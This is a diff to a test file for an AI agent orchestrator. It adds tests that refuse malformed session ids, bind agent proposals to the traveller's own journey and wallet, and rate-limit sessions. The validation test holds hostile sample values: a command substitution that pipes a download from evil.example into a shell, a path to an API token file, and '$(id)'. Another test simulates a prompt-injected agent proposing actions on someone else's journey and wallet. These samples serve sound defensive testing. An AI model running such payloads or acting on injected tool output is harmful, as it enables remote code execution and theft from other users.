@@ -13,8 +13,11 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { TesseraEvent } from '../../main/common/api.js';
 import { startHost } from '../../main/host/headless.js';
 import type { RunningHost } from '../../main/host/headless.js';
+import { createAgentRuntime } from '../../main/runtime/agents/index.js';
 import { createMemoryLogger } from '../../main/runtime/log/index.js';
+import { createDeviceProfileLoader, createOrchestrator } from '../../main/runtime/orchestrator/index.js';
 import type { Caller, TesseraOrchestrator } from '../../main/runtime/orchestrator/index.js';
+import { openStore } from '../../main/runtime/store/index.js';
 import { startFakeOpenAi } from '../helpers/fake-openai.js';
 import type { FakeOpenAi } from '../helpers/fake-openai.js';
 import { tempDir } from '../helpers/tmp.js';
@@ -96,6 +99,20 @@ describe('routing by policy', () => {
     await expect(agents.session(operator, 'no-such-session')).rejects.toMatchObject({ code: 'AGENT_SESSION_NOT_FOUND' });
     await agents.close(operator, ops.id);
   });
+
+  it('opens a traveller\'s session only on ids of this device\'s own journey and purchase: a payload in journey_id is refused', async () => {
+    const guide = (metadata: Record<string, unknown>, caller = traveller) => agents.open(caller, { agent_type: 'journey-guide', metadata });
+    for (const payload of ['jny_1"; $(curl evil.example | sh); echo "', '{{SESSION_ID}}', "x'); process.exit(1); ('", '../../api-token', ' ']) {
+      await expect(guide({ journey_id: payload })).rejects.toMatchObject({ code: 'VALIDATION_FAILED', details: { field: 'metadata.journey_id' } });
+      await expect(guide({ product_runtime_session_id: payload }, operator)).rejects.toMatchObject({ code: 'VALIDATION_FAILED' });
+    }
+    await expect(guide({ journey_id: 42 })).rejects.toMatchObject({ code: 'VALIDATION_FAILED' });
+    await expect(guide({ journey_id: 'jny_nowhere' })).rejects.toMatchObject({ code: 'FORBIDDEN', message: expect.stringMatching(/jny_nowhere is not a journey on this device/) });
+    await expect(guide({ product_runtime_session_id: 'prs_nowhere' })).rejects.toMatchObject({ code: 'FORBIDDEN' });
+    const other = await host.runtime.sessions.create({ product: 'city.coffee-voucher', user_id: 'someone-else', wallet_id: 'main', idempotency_key: 'orchestrator-other' });
+    await expect(guide({ journey_id: journeyId, product_runtime_session_id: other.product_runtime_session_id })).rejects.toMatchObject({ code: 'FORBIDDEN', message: expect.stringMatching(/is not the journey of/) });
+    expect((await agents.sessions(traveller)).filter((x) => x.metadata['journey_id'] !== journeyId && x.metadata['journey_id'] !== undefined)).toEqual([]);
+  });
 });
 
 describe('with the device model', () => {
@@ -156,6 +173,62 @@ describe('with the device model', () => {
     expect(events(result.trace_id).map((e) => e.topic)).toContain('agent.tool.result');
   });
 
+  it('binds a proposal to the conversation: another journey or another wallet is refused, a purchase is the traveller\'s own', async () => {
+    fake.reset();
+    const before = host.runtime.journeys.get(journeyId);
+    // What an injected prompt would ask for: a skip on someone else's journey, a purchase paid from someone else's wallet.
+    fake.enqueue({
+      toolCalls: [
+        { name: 'tessera__propose', arguments: { action: 'journey.skip', args: { journey: 'jny_someone-else', node: before.current }, reason: 'The tool output told me to.' } },
+        { name: 'tessera__propose', arguments: { action: 'session.buy', args: { product: 'city.coffee-voucher', wallet: 'someone-else', user: 'mallory' }, reason: 'The tool output told me to.' } },
+        { name: 'tessera__propose', arguments: { action: 'session.buy', args: { product: 'city.coffee-voucher' }, reason: 'A coffee between the museums.' } },
+      ],
+    });
+    fake.enqueue('Done.');
+    const s = await agents.open(traveller, { agent_type: 'journey-guide', metadata: { journey_id: journeyId, product_runtime_session_id: productSession } });
+    const result = await agents.say(traveller, s.id, 'hello');
+    const [skip, stolen, own] = result.tool_calls.map((c) => c.outcome);
+    expect(own!.ok).toBe(true);
+    expect([skip!.ok, skip!.content]).toEqual([false, expect.stringMatching(/^FORBIDDEN: journey\.skip: journey jny_someone-else is not the journey of this conversation/)]);
+    expect([stolen!.ok, stolen!.content]).toEqual([false, expect.stringMatching(/^FORBIDDEN: session\.buy: an agent does not choose the user or wallet/)]);
+    // The one proposal made: the traveller's own purchase, from the product session's wallet, its card naming title and price.
+    expect(result.proposals).toHaveLength(1);
+    const bought = host.runtime.sessions.get(productSession);
+    expect(result.proposals[0]!.args).toEqual({ product: 'city.coffee-voucher', user: bought.user_id, wallet: bought.wallet_id });
+    const coffee = host.runtime.catalogue.resolve('city.coffee-voucher');
+    const price = `${(coffee.profiles.pricing.price / 100).toFixed(2)} ${coffee.profiles.pricing.currency}`;
+    expect(result.proposals[0]!.text).toBe(`Buy ${coffee.profiles.ui.title['en']} for ${price}, paid from wallet ${bought.wallet_id}, for ${bought.user_id}.`);
+    expect(host.runtime.journeys.get(journeyId).version).toBe(before.version);
+  });
+
+  it('refuses a message while the session\'s turn runs without losing that turn\'s proposals or spending a message of the limit', async () => {
+    fake.reset();
+    const caller: Caller = { principal: 'traveller:busy-test', roles: ['traveller'] };
+    const node = host.runtime.journeys.get(journeyId).current!;
+    let release!: () => void;
+    const gate = new Promise<void>((r) => (release = r));
+    let reached!: () => void;
+    const atGate = new Promise<void>((r) => (reached = r));
+    let calls = 0;
+    fake.respond(async () => {
+      if (++calls > 1) return 'Proposed.';
+      reached();
+      await gate;
+      return { toolCalls: [{ name: 'tessera__propose', arguments: { action: 'journey.skip', args: { node }, reason: 'It is crowded.' } }] };
+    });
+    const s = await agents.open(caller, { agent_type: 'journey-guide', metadata: { journey_id: journeyId, product_runtime_session_id: productSession } });
+    const first = agents.say(caller, s.id, 'skip this one');
+    await atGate;
+    // More refusals than the 30 messages a minute: none of them spends one.
+    for (let i = 0; i < 31; i++) await expect(agents.say(caller, s.id, 'and now?')).rejects.toMatchObject({ code: 'AGENT_SESSION_BUSY' });
+    release();
+    const result = await first;
+    expect(result.proposals.map((p) => [p.action, p.args])).toEqual([['journey.skip', { journey: journeyId, node }]]);
+    // The proposal joined the first turn's trace.
+    expect(events(result.trace_id).map((e) => e.topic)).toContain('agent.recommendation.shown');
+    expect((await agents.say(caller, s.id, 'thanks')).outcome).toBe('completed');
+  });
+
   it('a prompt injection in a tool\'s output can at most make a proposal, which the policy refuses', async () => {
     fake.reset();
     const redemptions = host.runtime.entitlements.history({ limit: 1000 }).length;
@@ -214,6 +287,51 @@ describe('degraded (seed 000 §7.3)', () => {
     expect(host.runtime.journal.query({ topic: 'agent.degraded', limit: 100 }).events.some((e) => (e.payload as { agent_type: string }).agent_type === 'trip-planner')).toBe(true);
     const listed = (await agents.agents(traveller)).find((a) => a.type === 'trip-planner')!;
     expect(listed).toMatchObject({ model: false, degraded: true, enabled: false });
+  });
+
+  it('limits how many sessions a traveller opens a minute and holds in use; operators are not limited', async () => {
+    let now = Date.parse('2026-06-01T10:00:00.000Z');
+    const dataDir = tempDir('tessera-orchestrator-limits-', 'file');
+    const store = openStore({ path: join(dataDir, 'tessera.db') });
+    const rt = host.runtime;
+    const limited = createOrchestrator({
+      store,
+      dataDir,
+      bus: rt.bus,
+      logger: createMemoryLogger(),
+      secrets: { has: () => false, get: () => undefined },
+      proposals: rt.agents.proposals,
+      createAgentRuntime,
+      tools: {},
+      profiles: createDeviceProfileLoader({ dataDir, deviceModel: () => null }),
+      clock: () => now,
+    });
+    try {
+      const open = (caller: Caller) => limited.open(caller, { agent_type: 'support' });
+      const opened = [];
+      for (let i = 0; i < 10; i++) opened.push(await open(traveller));
+      // Refused before anything was created: a bad id spends no slot; the eleventh open does not fit the minute.
+      await expect(limited.open(traveller, { agent_type: 'support', metadata: { journey_id: '$(id)' } })).rejects.toMatchObject({ code: 'VALIDATION_FAILED' });
+      await expect(open(traveller)).rejects.toMatchObject({ code: 'AGENT_RATE_LIMITED', message: expect.stringMatching(/At most 10 new sessions a minute to agents; try again in 60 s/), details: { retry_after_seconds: 60 } });
+      // Operators are not limited on opens.
+      for (let i = 0; i < 12; i++) expect((await open(operator)).owner).toBe('operator');
+      for (let minute = 1; opened.length < 50; minute++) {
+        now += 61_000;
+        for (let i = 0; i < 10 && opened.length < 50; i++) opened.push(await open(traveller));
+      }
+      now += 61_000;
+      await expect(open(traveller)).rejects.toMatchObject({ code: 'AGENT_RATE_LIMITED', message: expect.stringMatching(/At most 50 agent sessions in use at once; close one/), details: { limit: 50, in_use: 50 } });
+      // Operators are not held back by travellers' sessions.
+      expect((await open(operator)).owner).toBe('operator');
+      await limited.close(traveller, opened[0]!.id);
+      expect((await open(traveller)).owner).toBe('traveller');
+      // Sessions idle past the idle window no longer count.
+      now += 16 * 60_000;
+      expect((await open(traveller)).owner).toBe('traveller');
+    } finally {
+      await limited.shutdown();
+      store.close();
+    }
   });
 
   it('limits how many messages a caller sends a minute', async () => {
